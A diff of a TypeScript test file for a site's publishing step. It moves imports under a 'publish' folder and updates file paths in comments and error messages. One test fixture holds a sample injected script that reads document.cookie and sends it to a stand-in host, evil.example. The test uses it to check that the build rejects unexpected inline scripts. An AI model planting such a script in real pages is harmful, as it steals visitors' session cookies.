@@ -12,11 +12,11 @@ import {
   redirectsText,
   scriptPolicyProblems,
   writeCdnFiles,
-} from "../../src/node/cdn-files"
+} from "../../src/node/publish/headers-and-redirects"
 import { samePagePathScript, samePagePathScriptInEveryPage } from "../../gatsby/internals/page-path-script"
-import { htmlPages, inlineScripts, scriptHash } from "../../src/node/inline-scripts"
-import { inlineScript } from "../../src/node/inline-script-build"
-import { cmsOpenerPolicy, cmsPolicy, policyText } from "../../src/node/security-headers"
+import { htmlPages, inlineScripts, scriptHash } from "../../src/node/publish/inline-scripts"
+import { inlineScript } from "../../src/node/publish/inline-script-build"
+import { cmsOpenerPolicy, cmsPolicy, policyText } from "../../src/node/publish/security-headers"
 import { cmsRoute, redirectRoutes } from "../../src/model/routes"
 
 /**
@@ -70,7 +70,7 @@ const files: Record<string, string> = {
   "cms/index.html": '<!doctype html><html><body><script src="/cms/react-18.3.1.js"></script></body></html>',
   "cms/react-18.3.1.js": "react",
   [`cms/cms-${hash20}.js`]: "cms",
-  // The search index (src/node/search-index.ts): Pagefind's own files keep their names, its chunks are hashed.
+  // The search index (src/node/publish/search-index.ts): Pagefind's own files keep their names, its chunks are hashed.
   "pagefind/pagefind.js": "pf",
   "pagefind/preload.json": "{}",
   "pagefind/pagefind-entry.json": "{}",
@@ -152,7 +152,7 @@ test("a page carrying an inline script the build does not mean to emit stops the
   const injected = "window.stolen=document.cookie;fetch('https://evil.example/'+window.stolen)"
   fs.writeFileSync(path.join(publicDir, "news/index.html"), page("/news/", `<script>${injected}</script>`))
   expect(() => write()).toThrow(
-    `inline scripts the build does not mean to emit (src/node/known-scripts.ts):\n  public/news/index.html: ${JSON.stringify(injected.slice(0, 60))}`,
+    `inline scripts the build does not mean to emit (src/node/publish/known-scripts.ts):\n  public/news/index.html: ${JSON.stringify(injected.slice(0, 60))}`,
   )
   expect(fs.existsSync(path.join(publicDir, "_headers"))).toBe(false)
 })
